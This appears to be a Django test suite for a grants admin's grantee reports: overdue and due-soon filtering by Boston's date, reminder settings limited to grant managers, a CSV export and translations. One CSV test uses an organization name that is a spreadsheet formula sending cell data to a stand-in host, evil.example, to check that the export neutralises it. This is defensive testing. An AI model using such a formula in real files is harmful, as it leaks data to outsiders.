"""Staff follow grantee reports in one "reports due" list (overdue, due soon, submitted, not yet due,
by Boston's calendar), see the reminders sent, download the list as CSV, and grant managers set
when each award's grantee is reminded."""

import csv
import datetime
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.contrib.auth.models import Permission
from django.core.exceptions import PermissionDenied, ValidationError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from grants import selectors
from grants.models import Award, GranteeReport, ReportReminder
from grants.services import award_create, award_reminders_update, grantee_reports_remind, review_conflict_declare
from tests.factories.grants import ApplicationFactory, MembershipFactory, OrganizationFactory

pytestmark = pytest.mark.django_db

CHANGELIST = "admin:grants_granteereport_changelist"


def _report(due_on, *, name=None, submitted=False, reminders=0) -> GranteeReport:
    """One report of a new grantee, due on `due_on` (its award's second report is removed)."""
    organization = OrganizationFactory(**({"name": name} if name else {}))
    MembershipFactory(organization=organization)
    award = award_create(
        application=ApplicationFactory(organization=organization),
        amount=Decimal("5000"),
        award_date=due_on - timedelta(days=180),
    )
    report = award.reports.order_by("due_on").first()
    award.reports.exclude(pk=report.pk).delete()
    if submitted:
        GranteeReport.objects.filter(pk=report.pk).update(submitted_at=timezone.now())
    for i in range(reminders):
        ReportReminder.objects.create(report=report, kind="overdue", sent_on=due_on + timedelta(days=7 * (i + 1)))
    return report


def _listed(client, **params) -> list[int]:
    response = client.get(reverse(CHANGELIST), params)
    assert response.status_code == 200
    return [report.pk for report in response.context["cl"].result_list]


def test_an_overdue_report_is_listed_under_overdue_and_not_under_submitted(client, world):
    today = selectors.office_today()
    overdue = _report(today - timedelta(days=12), name="Late Nonprofit", reminders=1)
    submitted = _report(today - timedelta(days=5), name="Punctual Nonprofit", submitted=True)
    soon = _report(today + timedelta(days=10))
    later = _report(today + timedelta(days=90))
    client.force_login(world["manager"])
    assert _listed(client, status="overdue") == [overdue.pk]
    assert _listed(client, status="submitted") == [submitted.pk]
    assert _listed(client, status="due_soon") == [soon.pk]
    assert _listed(client, status="not_yet_due") == [later.pk]
    # Every report, earliest due first.
    assert _listed(client) == [overdue.pk, submitted.pk, soon.pk, later.pk]
    page = client.get(reverse(CHANGELIST), {"status": "overdue"}).content.decode()
    assert "Late Nonprofit" in page
    assert "Overdue by 12 days" in page
    assert "Punctual Nonprofit" not in page


def test_reports_are_classified_by_bostons_date_not_utcs(client, world, monkeypatch):
    # 21:30 in Boston on 10 March is already 11 March in UTC.
    now = datetime.datetime(2026, 3, 11, 1, 30, tzinfo=datetime.UTC)
    due_today = _report(datetime.date(2026, 3, 10), name="Due Tonight")
    due_tomorrow = _report(datetime.date(2026, 3, 11), name="Due Tomorrow")
    monkeypatch.setattr(timezone, "now", lambda: now)
    assert selectors.office_today() == datetime.date(2026, 3, 10)
    client.force_login(world["manager"])
    assert _listed(client, status="overdue") == []
    assert _listed(client, status="due_soon") == [due_today.pk, due_tomorrow.pk]
    page = client.get(reverse(CHANGELIST)).content.decode()
    assert "Due today" in page
    assert "Due in 1 day" in page
    assert "Overdue by" not in page


def _download(client, pks=(), **params):
    url = reverse(CHANGELIST) + ("?" + "&".join(f"{k}={v}" for k, v in params.items()) if params else "")
    data = {"action": "download_csv", "index": "0", "_selected_action": list(pks), "select_across": "0" if pks else "1"}
    if not pks:
        # "Select all" over the filtered list: the action still needs one ticked row to run.
        data["_selected_action"] = [GranteeReport.objects.first().pk]
    response = client.post(url, data)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_the_csv_has_the_filtered_rows_and_a_formula_in_a_name_stays_text(client, world):
    today = selectors.office_today()
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    overdue = _report(today - timedelta(days=12), name=evil, reminders=2)
    _report(today - timedelta(days=3), name="Punctual Nonprofit", submitted=True)
    client.force_login(world["manager"])
    header, *rows = _download(client, status="overdue")
    assert header == [
        "organization",
        "award",
        "due on",
        "status",
        "last reminder sent",
        "reminders sent",
        "submitted at",
    ]
    assert rows == [
        [
            "'" + evil,
            f"Award #{overdue.award_id}",
            overdue.due_on.isoformat(),
            "Overdue by 12 days",
            (overdue.due_on + timedelta(days=14)).isoformat(),
            "2",
            "",
        ]
    ]
    _header, *everything = _download(client)
    assert [row[0] for row in everything] == ["'" + evil, "Punctual Nonprofit"]


def test_the_reports_page_shows_the_reminders_sent_read_only(client, world):
    report = _report(selectors.office_today() - timedelta(days=8), reminders=1)
    client.force_login(world["manager"])
    page = client.get(reverse("admin:grants_granteereport_change", args=[report.pk])).content.decode()
    assert "report reminders" in page.lower()
    assert "Overdue" in page
    assert 'name="reminders-0-sent_on"' not in page
    assert 'name="reminders-0-DELETE"' not in page
    assert "Add another report reminder" not in page


def test_the_list_uses_the_same_number_of_queries_however_many_reports(client, world):
    today = selectors.office_today()
    client.force_login(world["manager"])
    _report(today - timedelta(days=20), reminders=2)
    _report(today + timedelta(days=5))
    client.get(reverse(CHANGELIST))  # warm caches (content types, sessions)
    with CaptureQueriesContext(connection) as few:
        assert client.get(reverse(CHANGELIST)).status_code == 200
    for days in range(6):
        _report(today - timedelta(days=days * 10), reminders=days % 3, submitted=days == 2)
    with CaptureQueriesContext(connection) as many:
        response = client.get(reverse(CHANGELIST))
    assert len(response.context["cl"].result_list) == 8
    assert len(many) == len(few)


def _award_form(award, **reminders):
    return {
        **{
            "remind_days_before": award.remind_days_before,
            "remind_on_due_date": "on" if award.remind_on_due_date else "",
            "remind_overdue_every_days": award.remind_overdue_every_days,
            "remind_overdue_max": award.remind_overdue_max,
        },
        **reminders,
        "payments-TOTAL_FORMS": "0",
        "payments-INITIAL_FORMS": "0",
        "reports-TOTAL_FORMS": "0",
        "reports-INITIAL_FORMS": "0",
    }


def test_a_grant_manager_changes_the_reminder_days_and_the_next_beat_run_uses_them(
    client, world, django_capture_on_commit_callbacks
):
    report = _report(selectors.office_today() + timedelta(days=60))
    award = report.award
    client.force_login(world["manager"])
    url = reverse("admin:grants_award_change", args=[award.pk])
    page = client.get(url).content.decode()
    assert 'name="remind_days_before"' in page
    assert 'name="amount"' not in page  # the rest of the award stays as decided
    response = client.post(url, _award_form(award, remind_days_before="3", remind_overdue_every_days="0"))
    assert response.status_code == 302
    award.refresh_from_db()
    assert (award.remind_days_before, award.remind_overdue_every_days) == (3, 0)
    assert award.amount == Decimal("5000")
    with django_capture_on_commit_callbacks(execute=True):
        assert grantee_reports_remind(today=report.due_on - timedelta(days=14)) == 0
        assert grantee_reports_remind(today=report.due_on - timedelta(days=3)) == 1
        assert grantee_reports_remind(today=report.due_on + timedelta(days=7)) == 0
    assert list(ReportReminder.objects.filter(report=report).values_list("kind", flat=True)) == ["before"]


def test_reminder_settings_beyond_the_limits_are_refused(client, world):
    award = _report(selectors.office_today() + timedelta(days=60)).award
    client.force_login(world["manager"])
    url = reverse("admin:grants_award_change", args=[award.pk])
    response = client.post(url, _award_form(award, remind_days_before="500"))
    assert response.status_code == 200
    assert "Enter a whole number from 0 to 180." in response.content.decode()
    response = client.post(url, _award_form(award, remind_overdue_every_days="60", remind_overdue_max="10"))
    assert "more than a year after the due date" in response.content.decode()
    award.refresh_from_db()
    assert (award.remind_days_before, award.remind_overdue_every_days, award.remind_overdue_max) == (14, 7, 4)
    with pytest.raises(ValidationError):
        award_reminders_update(
            award=award,
            by=world["manager"],
            remind_days_before=-1,
            remind_on_due_date=True,
            remind_overdue_every_days=7,
            remind_overdue_max=4,
        )


def test_only_grant_managers_change_the_reminder_settings(client, world):
    application = world["application"]
    award = award_create(application=application, amount=Decimal("5000"), award_date=selectors.office_today())
    settings_of = {
        "remind_days_before": 3,
        "remind_on_due_date": False,
        "remind_overdue_every_days": 0,
        "remind_overdue_max": 0,
    }
    reviewer = world["reviewer"]
    with pytest.raises(PermissionDenied):
        award_reminders_update(award=award, by=reviewer, **settings_of)
    url = reverse("admin:grants_award_change", args=[award.pk])
    client.force_login(reviewer)
    assert client.post(url, _award_form(award, remind_days_before="3")).status_code == 403
    # Even allowed to open and change awards, and seeing this one, a reviewer reads the settings only.
    review_conflict_declare(assignment=world["assignment"], by=reviewer, has_conflict=False)
    reviewer.user_permissions.add(*Permission.objects.filter(codename__in=["view_award", "change_award"]))
    page = client.get(url)
    assert page.status_code == 200
    assert 'name="remind_days_before"' not in page.content.decode()
    client.post(url, _award_form(award, remind_days_before="3"))
    award.refresh_from_db()
    assert award.remind_days_before == 14


@pytest.mark.postgres
def test_a_change_of_reminder_settings_records_who_made_it(world):
    award = _report(selectors.office_today() + timedelta(days=60)).award
    award_reminders_update(
        award=award,
        by=world["manager"],
        remind_days_before=5,
        remind_on_due_date=True,
        remind_overdue_every_days=7,
        remind_overdue_max=4,
    )
    from django.apps import apps

    event = (
        apps.get_model("grants", "AwardEvent")
        .objects.filter(pgh_obj=award, pgh_label="update")
        .select_related("pgh_context")
        .get()
    )
    assert event.remind_days_before == 5
    assert event.pgh_context.metadata["user"] == world["manager"].pk
    assert event.pgh_context.metadata["action"] == "award_reminders_update"
    assert Award.objects.get(pk=award.pk).remind_days_before == 5


@pytest.mark.parametrize(
    ("language", "one", "many"),
    [
        ("es", "Atrasado por 1 día", "Atrasado por 12 días"),
        ("ru", "Просрочен на 1 день", "Просрочен на 12 дней"),
        ("ar", "متأخر منذ يوم واحد", "متأخر منذ 12 يومًا"),
        ("zh-hans", "已逾期 1 天", "已逾期 12 天"),
    ],
)
def test_overdue_is_worded_with_each_languages_plural_forms(language, one, many):
    from django.utils import translation

    today = datetime.date(2026, 3, 10)
    report = GranteeReport(due_on=today - timedelta(days=1))
    with translation.override(language):
        assert selectors.report_status_text(report, today=today) == one
        report.due_on = today - timedelta(days=12)
        assert selectors.report_status_text(report, today=today) == many
